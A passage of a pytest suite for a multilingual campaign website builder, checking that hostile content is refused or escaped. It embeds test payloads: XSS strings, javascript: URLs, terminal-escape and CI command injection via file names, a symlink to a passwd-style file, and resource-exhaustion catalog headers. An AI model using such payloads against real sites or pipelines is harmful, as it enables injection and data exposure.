def test_the_letter_pages_qr_code_holds_a_cyrillic_address_in_ascii(tmp_path):
    from qr_reading import modules_drawn, read_modules

    slug = "освободите-задержанных"
    files = minimal_files()
    for name in [n for n in files if n.startswith("actions/free-them")]:
        files[name] = files[name].replace("Slug: free-them", f"Slug: {slug}")
    site = build_site(tmp_path, files, settings={"SITEURL": "https://campaign.example.org"})
    svg = site.soup(f"ru/actions/{slug}/letter/index.html").select_one("svg.qr-code")
    scanned = read_modules(*modules_drawn(int(svg["width"]), svg.select_one("path")["d"])).text
    assert scanned.isascii()
    assert scanned == "https://campaign.example.org/ru/actions/" + urllib.parse.quote(slug) + "/"


def test_an_international_domain_is_sent_in_its_ascii_form(tmp_path):
    site = build(tmp_path, minimal_files() | {"data/targets.toml": targets_with('"office@прокуратура.kz"')})
    assert not messages(site, "prosecutor-general.email")
    mailto = site.soup("actions/free-them/index.html").select_one("a.send-mailto")["href"]
    assert mailto.startswith("mailto:office@xn--")


@pytest.mark.parametrize("petition, expected", [
    ("https://user:secret@petition.example/x", "carries a user name or password"),
    ('https://petition.example/x"onmouseover="x', "holds spaces, quotes"),
    ("https://petition.example/a b", "holds spaces, quotes"),
    ("javascript:alert(1)", "is not an http(s) address"),
    ("https://[x", "is not an http(s) address"),  # urllib raises on these hosts
    ("https://a]b/", "is not an http(s) address"),
    ("javascript:" + "p" * 5000, "is not an http(s) address"),  # not quoted whole: the message stays short
])
def test_a_petition_address_with_credentials_quotes_or_spaces_is_refused(tmp_path, petition, expected):
    text = action_md(extra=f"Petition: {petition}")
    site = build(tmp_path, minimal_files() | {"actions/free-them.md": text})
    assert messages(site, "actions/free-them.md", "field 'petition'", expected)
    assert all(len(message) < 500 for message in messages(site, "field 'petition'"))


@pytest.mark.parametrize("petition, expected", [
    # Each passed the check and made the petition button's href invalid HTML on the action page in every
    # language: `invoke publish` then failed on the built pages, naming no file or field.
    ("https://petition.example/a|b", "a link may not carry"),
    ("https://petition.example/{x}", "a link may not carry"),
    ("https://petition.example/p[1]", "a link may not carry"),
    ("https://petition.example/a^b", "a link may not carry"),
    ("https://petition.example/#a#b", "a link may not carry"),
    ("https://petition.example/?q=100%", "a '%' that begins no percent-escape"),
    ("https://petition.example:99999/", "a port that is not a number"),
    ("https://petition.example:80:80/", "a port that is not a number"),
    ("https://petition..example/", "an empty part in its host name"),
    ("https://.petition.example/", "an empty part in its host name"),
    ("https://pe%20tition.example/", "a '%' in its host name"),
    ("https://999.1.1.1/", "neither a name nor an IPv4 address"),
    ("https://1.2.3.4.5/", "neither a name nor an IPv4 address"),
    ("https://0x7f.0.0.1/", "neither a name nor an IPv4 address"),
    ("https://xn--zz.example/", "cannot be an international domain name"),
    ("https://" + "a" * 64 + ".example/", "over 63 characters"),
])
def test_a_petition_address_that_no_link_may_carry_is_refused(tmp_path, petition, expected):
    files = minimal_files() | {"actions/free-them.md": action_md(extra=f"Petition: {petition}")}
    site = build(tmp_path, files)
    assert messages(site, "actions/free-them.md", "field 'petition'", expected)
    assert not any(petition in page.read_text(encoding="utf-8") for page in site.output.rglob("*.html"))


@pytest.mark.parametrize("petition", [
    "https://petition.example/sign?id=1&ref=site#form", "https://петиция.example/подписать", "https://192.0.2.1:8443/p",
    "http://[2001:db8::1]/p", "https://xn--80ak6aa92e.example./p%20q",
])
def test_a_petition_address_links_may_carry_is_kept(tmp_path, petition):
    site = build(tmp_path, minimal_files() | {"actions/free-them.md": action_md(extra=f"Petition: {petition}")})
    assert not messages(site, "field 'petition'")
    links = site.soup("actions/free-them/index.html").select(".petition a")
    assert [link["href"] for link in links] == [petition]


# ---- 6. Data texts are complete or reported ----

def test_a_target_without_default_language_text_is_an_error(tmp_path):
    toml = TARGETS_TOML.replace('salutation = { en = "Dear Prosecutor General,", ', 'salutation = { fr = "Monsieur,", ')
    site = build(tmp_path, minimal_files() | {"data/targets.toml": toml})
    assert messages(site, "targets.toml", "field 'prosecutor-general.salutation'", "has no 'en' text")


def test_a_salutation_falling_back_to_another_language_is_a_warning(tmp_path):
    toml = TARGETS_TOML.replace(', ru = "Уважаемый господин Генеральный прокурор!"', "")
    site = build(tmp_path, minimal_files() | {"data/targets.toml": toml})
    assert messages(site, "targets.toml", "'prosecutor-general.salutation'", "has no 'ru' text",
                    "actions/free-them.ru.md")
    assert_strict_fails(tmp_path, minimal_files() | {"data/targets.toml": toml})


# ---- 7. Share texts, terminal output, rebuilt folders ----

def test_control_characters_in_content_never_reach_the_terminal(tmp_path):
    text = minimal_files()["actions/free-them.ru.md"].replace("Lang: ru", "Lang: ru\nTranslator: x\x1b]0;owned\x07\x1b[2J")
    site = build(tmp_path, minimal_files() | {"actions/free-them.ru.md": text})
    assert messages(site, "actions/free-them.ru.md:4", "U+0007, U+001B")
    # A file name reaches the log as it is: escaped, never sent raw to the terminal.
    files = minimal_files() | {"pages/\x1b[31mred.md": "Title: Red\n\nText.\n"}
    site = build(tmp_path / "named", files)
    logged = site.report.errors + site.report.warnings
    assert logged and not any("\x1b" in m for m in logged)
    assert any("\\x1b[31mred.md" in m for m in logged)


def test_a_file_name_cannot_give_the_ci_runner_a_command(tmp_path, caplog):
    import logging
    import re

    name = "pages/x\n::error file=README.md,line=1::injected\n  ##[error]also.md"
    with caplog.at_level(logging.INFO):
        site = build(tmp_path, minimal_files() | {name: "Title: X\n\nText.\n"})
    logged = site.report.errors + site.report.warnings
    assert any("x\\x0a::error" in m for m in logged)  # the name, kept on one line
    lines = [line for record in caplog.records for line in record.getMessage().split("\n")]
    assert not [line for line in lines if re.match(r"\s*(::|##\[)", line)]


def test_a_file_name_that_is_not_utf8_is_named_and_the_site_builds(tmp_path):
    pages = tmp_path / "content" / "pages"
    pages.mkdir(parents=True)
    with open(os.path.join(os.fsencode(pages), b"ab\xffc.md"), "w", encoding="utf-8") as stream:
        stream.write("Title: Odd name\n\nText.\n")
    site = build(tmp_path, minimal_files())
    assert messages(site, "pages/ab\\udcffc.md", "its name is not UTF-8 text", "Rename it")
    assert site.exists("translation-status/index.html") and site.exists("actions/free-them/index.html")
    assert "Odd name" not in "".join(site.text(p) for p in files_under(site.output) if p.endswith(".html"))
    with pytest.raises(BuildFailed):
        build_site(tmp_path, minimal_files(), strict=True)


def test_a_rebuild_leaves_the_folder_tree_a_fresh_build_leaves(tmp_path):
    from conftest import write_files

    files = minimal_files()
    write_files(tmp_path / "content", files)
    build_with_cache(tmp_path)
    assert (tmp_path / "output" / "actions" / "free-them" / "letter").is_dir()
    closed = {name: text.replace("State: open", "State: closed\nOutcome: Released.") for name, text in files.items()
              if name.startswith("actions/")}
    write_files(tmp_path / "content", closed)
    os.utime(tmp_path / "content" / "actions" / "free-them.md", (1, 1))  # older than the build: changed by size
    build_with_cache(tmp_path)
    fresh = tmp_path / "fresh"
    write_files(fresh / "content", files | closed)
    run_build(str(ROOT / "pelicanconf.py"), overrides=settings_for(fresh))
    assert files_under(tmp_path / "output") == files_under(fresh / "output")


def test_content_cached_by_an_earlier_build_is_read_again_when_the_plugins_change(tmp_path):
    """Pelican's content cache, which a team may turn back on (pelicanconf.py keeps it off), checks only
    file times: after an upgrade of the plugins (say, of the sanitiser) it must not hand over HTML read
    by the old code."""
    from conftest import write_files

    write_files(tmp_path / "content", minimal_files())
    extra = tmp_path / "extra"
    extra.mkdir()
    (extra / "version.txt").write_text("1", encoding="utf-8")
    plugins_changed = {"INCREMENTAL": {"extra_paths": [str(extra)]}, "CONTENT_CACHING_LAYER": "reader"}
    build_with_cache(tmp_path, plugins_changed)
    cache = next(p for p in (tmp_path / "cache").iterdir() if p.is_file() and "Reader" in p.name)
    data = pickle.loads(cache.read_bytes())
    source = next(key for key in data if key.endswith("about.md"))
    stamp, (content, metadata) = data[source]
    data[source] = (stamp, ("<p>About us.</p><script>old()</script>", metadata))
    cache.write_bytes(pickle.dumps(data))
    (extra / "version.txt").write_text("2", encoding="utf-8")  # as a plugin upgrade changes the key
    report = build_with_cache(tmp_path, plugins_changed)
    assert "full" in report.plan
    assert "old()" not in (tmp_path / "output" / "about" / "index.html").read_text(encoding="utf-8")


def test_a_theme_catalog_that_is_not_utf8_is_named_and_the_pages_show_the_source_strings(tmp_path):
    catalogs = tmp_path / "catalogs"
    for lang in ("ru", "kk"):
        folder = catalogs / lang / "LC_MESSAGES"
        folder.mkdir(parents=True)
        original = (ROOT / "theme" / "translations" / lang / "LC_MESSAGES" / "messages.po").read_bytes()
        (folder / "messages.po").write_bytes(original + (b'\nmsgid "Caf\xe9"\nmsgstr ""\n' if lang == "ru" else b""))
    multilingual = {"languages": ["en", "ru", "kk"], "locales": {"en": "en_GB"}, "catalog_path": str(catalogs),
                    "index_pages": {"": "index", "actions/": "actions", "briefings/": "briefings"}}
    site = build_site(tmp_path, minimal_files(), settings={"MULTILINGUAL": multilingual})
    assert messages(site, "ru/LC_MESSAGES/messages.po", "cannot be read as a catalog", "Save it as UTF-8")
    assert site.exists("ru/actions/free-them/index.html")


def site_with_ru_catalog(tmp_path, edit, strict=False):
    """A site whose Russian theme catalog is the project's, changed by edit(text) -> text."""
    catalogs = tmp_path / "catalogs"
    for lang in ("ru", "kk"):
        folder = catalogs / lang / "LC_MESSAGES"
        folder.mkdir(parents=True, exist_ok=True)
        original = (ROOT / "theme" / "translations" / lang / "LC_MESSAGES" / "messages.po").read_text(encoding="utf-8")
        (folder / "messages.po").write_text(edit(original) if lang == "ru" else original, encoding="utf-8")
    multilingual = {"languages": ["en", "ru", "kk"], "locales": {"en": "en_GB"}, "catalog_path": str(catalogs),
                    "index_pages": {"": "index", "actions/": "actions", "briefings/": "briefings"}}
    return build_site(tmp_path, minimal_files(), settings={"MULTILINGUAL": multilingual}, strict=strict)


def test_a_theme_translation_with_markup_shows_as_text(tmp_path):
    site = site_with_ru_catalog(tmp_path, lambda po: po.replace(
        'msgstr "Действуйте сейчас"', 'msgstr "<script>alert(1)</script><a href=\\"https://evil.example\\">Сейчас</a>"'))
    page = site.soup("ru/actions/free-them/index.html")
    assert not page.select("script") and not page.select('a[href^="https://evil"]')
    assert page.select_one("#act-heading").get_text() == '<script>alert(1)</script><a href="https://evil.example">Сейчас</a>'


@pytest.mark.parametrize("translation, said", [
    ("Срок: %(datum)s", "%(datum)s is not a placeholder of the original"),
    ("Срок: %(date)d", "%(date)d is not a placeholder of the original"),  # a raw ValueError on the page, before
    ("Срок: %(date)30000000s", "%(date)30000000s is not a placeholder"),  # 30 MB pages, before
    ("Срок: 100% %(date)s", "neither '%%' nor a placeholder"),
    ("Срок: %d", "neither '%%' nor a placeholder"),
])
def test_a_theme_translation_that_would_not_format_is_named_and_the_page_shows_the_original(tmp_path, translation,
                                                                                           said):
    def edit(po):
        return po.replace('msgstr "Срок: %(date)s"', f'msgstr "{translation}"')
    site = site_with_ru_catalog(tmp_path, edit)
    assert messages(site, "ru/LC_MESSAGES/messages.po", "Deadline: %(date)s", "does not format", said, "%%")
    deadline = site.soup("ru/actions/free-them/index.html").select_one("p.deadline").get_text()
    assert deadline.startswith("Deadline: ") and "2026" in deadline
    with pytest.raises(BuildFailed):
        site_with_ru_catalog(tmp_path / "strict", edit, strict=True)


@pytest.mark.parametrize("header", [
    "Plural-Forms: nplurals=2; plural=import os;",
    "Plural-Forms: nplurals=2; plural=" + "(" * 400 + "n" + ")" * 400 + ";",
    "Content-Type: text/plain; charset=x-nonexistent",
])
def test_a_theme_catalog_with_a_broken_header_is_named_and_the_pages_show_the_source_strings(tmp_path, header):
    def edit(po):
        lines = [line for line in po.split("\n") if not line.startswith(('"Plural-Forms', '"n%10', '"Content-Type'))
                 and "%10" not in line]
        at = next(i for i, line in enumerate(lines) if line.startswith('"Language'))
        return "\n".join(lines[:at] + [f'"{header}\\n"'] + lines[at:])
    site = site_with_ru_catalog(tmp_path, edit)
    assert messages(site, "ru/LC_MESSAGES/messages.po", "cannot be read as a catalog")
    assert site.soup("ru/actions/free-them/index.html").select_one("#act-heading").get_text() == "Act now"


@pytest.mark.parametrize("broken, said, offset", [
    # Babel alone read the first as "Действуйте сейча", the last character cut, and said nothing.
    ('msgstr "Действуйте сейчас', '\'msgstr "Действуйте сейчас\' is not a gettext line', 0),
    ('msgstr "Действуйте" сейчас"', "is not a gettext line", 0),
    ("msgstr Действуйте сейчас", "is not a gettext line", 0),
    ('"Действуйте сейчас"', "missing msgstr for msgid 'Act now", -1),  # named at its msgid
])
def test_a_theme_catalog_line_that_is_not_gettext_is_named_with_its_line_never_read_half(tmp_path, broken, said,
                                                                                         offset):
    def edit(po):
        return po.replace('msgstr "Действуйте сейчас"', broken)
    original = (ROOT / "theme" / "translations" / "ru" / "LC_MESSAGES" / "messages.po").read_text(encoding="utf-8")
    line = original.split("\n").index('msgstr "Действуйте сейчас"') + 1 + offset
    site = site_with_ru_catalog(tmp_path, edit)
    assert messages(site, f"ru/LC_MESSAGES/messages.po:{line}: cannot be read as a catalog: ", said)
    assert site.soup("ru/actions/free-them/index.html").select_one("#act-heading").get_text() == "Act now"
    report = theme_strings(str(tmp_path / "catalogs"), "ru")  # what `invoke translations` says
    assert f"messages.po:{line}:" in report.problem and said in report.problem
    with pytest.raises(BuildFailed):
        site_with_ru_catalog(tmp_path / "strict", edit, strict=True)


@pytest.mark.parametrize("replacement, said, offset", [
    ('msgstr "Действуйте сейчас"\nmsgstr "Не действуйте"', "a second msgstr for one msgid", 1),
    ('msgstr "Действуйте сейчас"\n\nmsgid "Act now"\nmsgstr "Не действуйте"', "the same msgid as line", 2),
    ('msgstr[0] "Действуйте сейчас"', "msgstr[0] for a msgid without a plural", 0),
])
def test_a_theme_catalog_entry_that_gettext_refuses_is_named_where_babel_kept_one_silently(tmp_path, replacement,
                                                                                          said, offset):
    original = (ROOT / "theme" / "translations" / "ru" / "LC_MESSAGES" / "messages.po").read_text(encoding="utf-8")
    line = original.split("\n").index('msgstr "Действуйте сейчас"') + 1 + offset
    site = site_with_ru_catalog(tmp_path, lambda po: po.replace('msgstr "Действуйте сейчас"', replacement))
    assert messages(site, f"ru/LC_MESSAGES/messages.po:{line}: cannot be read as a catalog: {said}")
    assert site.soup("ru/actions/free-them/index.html").select_one("#act-heading").get_text() == "Act now"


def catalogs_with_ru(tmp_path, make_ru):
    """MULTILINGUAL settings whose catalogs are the project's, the Russian .po made by make_ru(path)."""
    catalogs = tmp_path / "catalogs"
    for lang in ("ru", "kk"):
        folder = catalogs / lang / "LC_MESSAGES"
        folder.mkdir(parents=True)
        if lang == "kk":
            (folder / "messages.po").write_bytes((ROOT / "theme/translations/kk/LC_MESSAGES/messages.po").read_bytes())
    make_ru(catalogs / "ru" / "LC_MESSAGES" / "messages.po")
    return {"MULTILINGUAL": {"languages": ["en", "ru", "kk"], "locales": {"en": "en_GB"}, "catalog_path": str(catalogs),
                             "index_pages": {"": "index", "actions/": "actions", "briefings/": "briefings"}}}


def test_a_theme_catalog_that_links_outside_its_folder_is_not_read_nor_shown(tmp_path):
    secret = tmp_path / "passwd"
    secret.write_text("root:x:0:0:secret-line\n", encoding="utf-8")
    site = build_site(tmp_path, minimal_files(), settings=catalogs_with_ru(tmp_path, lambda po: po.symlink_to(secret)))
    assert messages(site, "ru/LC_MESSAGES/messages.po", "is a link to a file outside its folder")
    assert not any("secret-line" in m for m in site.report.errors + site.report.warnings)
    assert site.soup("ru/actions/free-them/index.html").select_one("#act-heading").get_text() == "Act now"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_a_theme_catalog_that_is_a_named_pipe_is_named_and_never_waited_for(tmp_path):
    signal.signal(signal.SIGALRM, waited_too_long)
    signal.alarm(60)
    try:
        site = build_site(tmp_path, minimal_files(), settings=catalogs_with_ru(tmp_path, os.mkfifo))
        assert messages(site, "ru/LC_MESSAGES/messages.po", "is not a regular file")
        assert theme_strings(str(tmp_path / "catalogs"), "ru").problem.count("is not a regular file") == 1
    finally:
        signal.alarm(0)


def test_a_theme_catalog_asking_for_millions_of_plural_forms_is_named_at_once(tmp_path):
    def edit(po):
        lines = [line for line in po.split("\n") if not line.startswith('"Plural-Forms') and "%10" not in line]
        at = next(i for i, line in enumerate(lines) if line.startswith('"Language'))
        header = '"Plural-Forms: nplurals=300000000; plural=0;\\n"'
        return "\n".join(lines[:at] + [header] + lines[at:]) + '\nmsgid "one"\nmsgid_plural "many"\nmsgstr[0] "x"\n'

    site = site_with_ru_catalog(tmp_path, edit)  # Babel alone took 8 GB and ended in MemoryError
    assert messages(site, "ru/LC_MESSAGES/messages.po", "asks for 300000000 plural forms", "more than 6")
    assert site.exists("ru/actions/free-them/index.html")


def test_control_characters_in_a_theme_translation_are_taken_out_and_named(tmp_path):
    def edit(po):
        return (po.replace('msgstr "Действуйте сейчас"', 'msgstr "Действуйте\x1b[31m сейчас"')
                .replace('msgstr "Вернуться к тексту у примечания %(number)s"', 'msgstr "Вернуться\x0b %(number)s"'))
    site = site_with_ru_catalog(tmp_path, edit)  # before: ESC reached the page, VT in a footnote broke the feed
    assert messages(site, "ru/LC_MESSAGES/messages.po", "Act now", "control characters")
    assert messages(site, "ru/LC_MESSAGES/messages.po", "Back to the text of note", "control characters")
    assert site.soup("ru/briefings/background/index.html").select('a.footnote-backref[title="Вернуться 1"]')
    assert site.soup("ru/actions/free-them/index.html").select_one("#act-heading").get_text() == "Действуйте[31m сейчас"
    for page in files_under(site.output):
        if page.endswith((".html", ".xml")):
            text = (site.output / page).read_text(encoding="utf-8")
            assert "\x1b" not in text and "\x0b" not in text, page


def test_a_right_to_left_override_left_open_in_a_theme_translation_is_closed_and_named(tmp_path):
    site = site_with_ru_catalog(tmp_path, lambda po: po.replace('msgstr "Действуйте сейчас"',
                                                                'msgstr "Действуйте \u202eсейчас"'))
    assert messages(site, "ru/LC_MESSAGES/messages.po", "Act now", "does not close")
    heading = site.soup("ru/actions/free-them/index.html").select_one("#act-heading").get_text()
    assert heading == "Действуйте \u202eсейчас\u202c"


@pytest.mark.parametrize("image, expected", [
    ("../../secret.jpg", "leads outside the content folder"),
    ("images/notes.txt", "must be a JPEG, PNG or WebP file"),
    ("images/fake.jpg", "cannot be read as an image"),
])
def test_an_image_field_cannot_reach_outside_or_smuggle_a_file(tmp_path, image, expected):
    (tmp_path / "secret.jpg").write_bytes(b"not for the site")
    files = minimal_files() | {"images/fake.jpg": "<script>alert(1)</script>", "images/notes.txt": "notes"}
    files["actions/free-them.md"] = action_md(extra=f"Image: {image}\nImage-Alt: A picture")
    site = build(tmp_path, files)
    assert messages(site, "actions/free-them.md", "field 'image'", expected)
    assert not any(p.startswith("images/sized") for p in files_under(site.output))
def png_bytes(width, height, mode="L"):
    from PIL import Image
    import io
    buffer = io.BytesIO()
    Image.new(mode, (width, height)).save(buffer, "PNG")
    return buffer.getvalue()


def half_a_jpeg():
    from PIL import Image
    import io
    import random
    rng = random.Random(2019)
    buffer = io.BytesIO()
    Image.frombytes("RGB", (320, 240), bytes(rng.randrange(256) for _ in range(320 * 240 * 3))).save(buffer, "JPEG")
    data = buffer.getvalue()
    return data[: len(data) // 2]


def damaged_png():
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 100, 100, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", b"not compressed data" * 10) + chunk(b"IEND", b""))


@pytest.mark.parametrize("data, expected", [
    (half_a_jpeg, "cannot be read as an image"),  # its header reads, its pixels stop
    (damaged_png, "cannot be read as an image"),  # right checksums, pixels that do not decompress
    (lambda: png_bytes(1, 20000), "is 1 x 20000 pixels; a side may be at most 16,383 pixels"),
])
def test_an_image_that_cannot_be_resized_is_named(tmp_path, data, expected):
    content = tmp_path / "content" / "images"
    content.mkdir(parents=True)
    name = "photo.jpg" if data is half_a_jpeg else "photo.png"
    (content / name).write_bytes(data())
    files = minimal_files()
    files["actions/free-them.md"] = action_md(extra=f"Image: images/{name}\nImage-Alt: A picture")
    site = build(tmp_path, files)
    assert messages(site, "actions/free-them.md", "field 'image'", expected)
    assert site.exists("actions/free-them/index.html")


def test_an_image_a_pixel_high_still_gets_every_width(tmp_path):
    content = tmp_path / "content" / "images"
    content.mkdir(parents=True)
    (content / "banner.png").write_bytes(png_bytes(10000, 1))
    files = minimal_files()
    files["actions/free-them.md"] = action_md(extra="Image: images/banner.png\nImage-Alt: A thin line")
    site = build(tmp_path, files)
    assert not messages(site, "field 'image'")
    widths = sorted(int(w.split()[-1][:-1]) for w in
                    site.soup("actions/free-them/index.html").select_one("source, img")["srcset"].split(", "))
    assert widths == [320, 640, 960, 1280]




# ---- 8. Fields the site decides, and what a translation may not add ----

def html_of(site):
    return "".join(site.text(p) for p in files_under(site.output) if p.endswith((".html", ".xml")))


def with_ru_header_lines(lines):
    """The minimal site, its Russian action with `lines` added to its header (after Lang: ru, line 3)."""
    text = minimal_files()["actions/free-them.ru.md"].replace("Lang: ru", f"Lang: ru\n{lines}")
    return minimal_files() | {"actions/free-them.ru.md": text}


@pytest.mark.parametrize("name, status", [("actions/free-them.ru.md", "draft"), ("briefings/background.md", "draft"),
                                          ("actions/free-them.ru.md", "hidden"), ("pages/about.md", "draft"),
                                          ("pages/about.md", "bogus")])
def test_a_status_line_is_refused_and_never_makes_a_draft(tmp_path, name, status):
    text = minimal_files()[name].replace("Title:", f"Status: {status}\nTitle:", 1)
    files = minimal_files() | {name: text}
    site = build(tmp_path, files)  # Pelican's drafts failed with a traceback
    assert messages(site, name, "field 'status'", "is decided by the site", "Delete the line")
    assert not site.exists("drafts") and site.exists("index.html")
    assert_strict_fails(tmp_path, files)


@pytest.mark.parametrize("name, template", [("actions/free-them.ru.md", "page"), ("actions/free-them.ru.md", "briefing"),
                                            ("actions/free-them.ru.md", "article"), ("pages/about.md", "action")])
def test_a_template_of_another_kind_of_document_is_refused(tmp_path, name, template):
    text = minimal_files()[name].replace("Title:", f"Template: {template}\nTitle:", 1)
    files = minimal_files() | {name: text}
    site = build(tmp_path, files)  # a page template on an action failed with a traceback; a briefing's hid the letter
    assert messages(site, name, "field 'template'", "is not the template of this kind of document")
    assert site.exists("actions/free-them/index.html")
    assert_strict_fails(tmp_path, files)


def test_an_author_tags_or_category_line_never_reaches_the_feed_or_a_page(tmp_path):
    files = with_ru_header_lines("Author: Jane Volunteer\nTags: Aigerim Volunteer\nCategory: Aigerim V")
    site = build(tmp_path, files)
    for field in ("author", "tags", "category"):
        assert messages(site, "actions/free-them.ru.md", f"field '{field}'", "ignored")
    assert "Volunteer" not in html_of(site) and "Aigerim" not in html_of(site)
    assert "<name>Campaign team</name>" in site.text("ru/feeds/atom.xml")
    assert site.exists("ru/actions/free-them/index.html")
    assert_strict_fails(tmp_path, files)


@pytest.mark.parametrize("field, value", [("Petition", "https://phish.example.net/sign"),
                                          ("Outcome-Date", "2026-05-01")])
def test_a_translation_cannot_add_a_fact_its_original_lacks(tmp_path, field, value):
    files = with_ru_header_lines(f"{field}: {value}")
    site = build(tmp_path, files)
    assert messages(site, "actions/free-them.ru.md:4", f"field '{field.lower()}'", "is set here but not in "
                    "actions/free-them.md, which decides it", "Delete the line from the translation")
    page = site.text("ru/actions/free-them/index.html")
    assert value not in page and "phish" not in html_of(site)
    assert_strict_fails(tmp_path, files)


@pytest.mark.parametrize("value, said", [("tomorrow", "is not a date"), ("2019-02-30", "is not a date"),
                                         ("March 3, 2019", "is not a date"),
                                         ("2019-03-04T23:00:00-12:00", "is not a date"),
                                         ("0001-01-01", "is before 2019-03-05"),
                                         ("9999-12-31", "is after the day of the build (2026-06-01)")])
def test_a_modified_date_that_cannot_be_the_last_change_is_named_and_left_out_of_the_feed(tmp_path, value, said):
    text = minimal_files()["briefings/background.md"].replace("Summary:", f"Modified: {value}\nSummary:")
    files = minimal_files() | {"briefings/background.md": text}
    site = build(tmp_path, files)  # 'tomorrow' failed as "Could not process", without field or fix
    assert messages(site, "briefings/background.md:4", "field 'modified'", said)
    feed = site.text("feeds/atom.xml")
    assert "9999" not in feed and "0001-" not in feed and "Background" in feed
    assert_strict_fails(tmp_path, files)


def test_a_deadline_written_as_a_week_date_is_not_a_date(tmp_path):
    site = build(tmp_path, minimal_files() | {"actions/free-them.md": action_md(deadline="2027-W09-6")})
    assert messages(site, "actions/free-them.md", "field 'deadline'", "is not a date", "YYYY-MM-DD")


def test_unknown_ids_are_named_a_few_at_a_time_whatever_the_lists(tmp_path):
    targets = TARGETS_TOML + "".join(
        f'\n[official-{i:04d}]\nname = "N"\ntitle = "T"\nemail = "o{i}@example.org"\naddress = "A"\n'
        f'salutation = "Dear"\nlanguage = "ru"\n' for i in range(300))
    unknown = ", ".join(f"nobody-{i}" for i in range(400))
    text = minimal_files()["actions/free-them.md"].replace("Targets: prosecutor-general", f"Targets: {unknown}")
    site = build(tmp_path, minimal_files() | {"data/targets.toml": targets, "actions/free-them.md": text})
    named = messages(site, "actions/free-them.md", "field 'targets'", "not defined")
    assert len(named) == 6 and all(len(message) < 600 for message in messages(site, "field 'targets'"))
    assert messages(site, "field 'targets'", "395 more ids are not defined in content/data/targets.toml")
    assert messages(site, "'nobody-0' is not defined", "interior-minister, official-0000", "(and 292 more in content/data/targets.toml)")


def test_control_characters_in_an_image_description_are_named_and_never_reach_the_page(tmp_path):
    (tmp_path / "content" / "images").mkdir(parents=True)
    (tmp_path / "content" / "images" / "p.jpg").write_bytes(photo(40, 30))
    people = PEOPLE_TOML + 'image = "images/p.jpg"\nimage_alt = { en = "red\\u001b[2J\\u0000box\\u0085", ru = "x" }\n'
    files = minimal_files() | {"data/people.toml": people}
    site = build(tmp_path, files)
    assert messages(site, "people.toml", "field 'dmitry-tikhonov.image_alt.en'", "U+0000, U+001B, U+0085")
    assert 'alt="red[2Jbox"' in site.text("actions/free-them/index.html")
    assert_strict_fails(tmp_path, files)


def test_a_control_character_typed_into_a_data_file_is_named_by_line(tmp_path):
    # Typed as it is, not as a TOML escape: it was taken out when the file was read, and nothing said so.
    targets = TARGETS_TOML.replace('en = "Office of the Prosecutor General"', 'en = "Office of the\x85 Prosecutor General"')
    assert targets != TARGETS_TOML
    files = minimal_files() | {"data/targets.toml": targets}
    site = build(tmp_path, files)
    line = targets.split("\x85")[0].count("\n") + 1
    assert messages(site, f"data/targets.toml:{line}", "U+0085")
    assert "\x85" not in site.text("actions/free-them/index.html")
    assert_strict_fails(tmp_path, files)


@pytest.mark.parametrize("key", ["kz", "", "KK"])
def test_a_data_text_under_a_key_that_is_no_language_is_named(tmp_path, key):
    people = PEOPLE_TOML.replace('kk = "Дмитрий Тихонов"', f'"{key}" = "Дмитрий Тихонов"')
    files = minimal_files() | {"data/people.toml": people}
    site = build(tmp_path, files)
    assert messages(site, "people.toml", "field 'dmitry-tikhonov.name'", f"has a text for '{key}', which is not a "
                    "language code", "Use one of en, ru, kk")
    assert_strict_fails(tmp_path, files)


def test_a_data_text_in_a_language_the_site_does_not_have_yet_is_kept_quietly(tmp_path):
    people = PEOPLE_TOML.replace('kk = "Дмитрий Тихонов"', 'kk = "Дмитрий Тихонов", de = "Dmitri Tichonow"')
    build_site(tmp_path, minimal_files() | {"data/people.toml": people}, strict=True)


def test_a_bidirectional_override_never_reaches_the_terminal(tmp_path):
    text = action_md(extra="Briefing: x\u202eDER")
    site = build(tmp_path, minimal_files() | {"actions/free-them.md": text.replace("Briefing: background\n", "")})
    logged = site.report.errors + site.report.warnings
    assert any("x\\u202eDER" in m for m in logged) and not any("\u202e" in m for m in logged)


def test_an_id_with_a_character_that_shows_as_nothing_is_quoted_with_it_visible(tmp_path):
    # Quoted as it is, 'official-1' + U+200B read as the very id the message offers in its place.
    text = action_md().replace("Targets: ", "Targets: \u200b", 1)
    assert text != action_md()
    site = build(tmp_path, minimal_files() | {"actions/free-them.md": text})
    logged = site.report.errors + site.report.warnings
    assert messages(site, "actions/free-them.md", "field 'targets'", "\\u200b")
    assert not any("\u200b" in m for m in logged)


def test_a_letter_too_long_for_anyone_to_read_is_named_and_copied_nowhere(tmp_path):
    letter = "::: letter\nSubject: Release them\n\n" + "word " * 4000 + "\n:::\n"
    text = action_md(letter=False) + "\n" + letter
    files = minimal_files() | {"actions/free-them.md": text}
    site = build(tmp_path, files)
    assert messages(site, "actions/free-them.md", "field 'letter'", "is 19,999 characters long; the limit is 10,000",
                    "so the page is built without send links")
    page = site.text("actions/free-them/index.html")
    assert "subject=" not in page and "word word" not in page
    assert_strict_fails(tmp_path, files)


def test_an_action_naming_too_many_officials_is_named(tmp_path):
    targets = TARGETS_TOML + "".join(
        f'\n[official-{i:03d}]\nname = "N"\ntitle = "T"\nemail = "o{i}@example.org"\naddress = "A"\n'
        f'salutation = "Dear official {i},"\nlanguage = "ru"\n' for i in range(60))
    ids = ", ".join(f"official-{i:03d}" for i in range(60))
    text = minimal_files()["actions/free-them.md"].replace("Targets: prosecutor-general", f"Targets: {ids}")
    files = minimal_files() | {"data/targets.toml": targets, "actions/free-them.md": text}
    site = build(tmp_path, files)
    assert messages(site, "actions/free-them.md:8", "field 'targets'", "names 60 officials; the limit is 50")
    assert not site.exists("actions/free-them/index.html")
    assert_strict_fails(tmp_path, files)


def test_the_send_button_of_a_long_letter_to_fifty_officials_stays_within_the_budget(tmp_path):
    # Fifty addresses and a 200-character Cyrillic subject make a mailto of about 2,300 characters, past what
    # some mail programs take: the button keeps the addresses, and the subject is copied with the letter.
    targets = TARGETS_TOML + "".join(
        f'\n[official-{i:03d}]\nname = "N"\ntitle = "T"\nemail = "official{i:03d}@example.org"\naddress = "A"\n'
        'salutation = "Уважаемые господа!"\nlanguage = "en"\n' for i in range(50))
    ids = ", ".join(f"official-{i:03d}" for i in range(50))
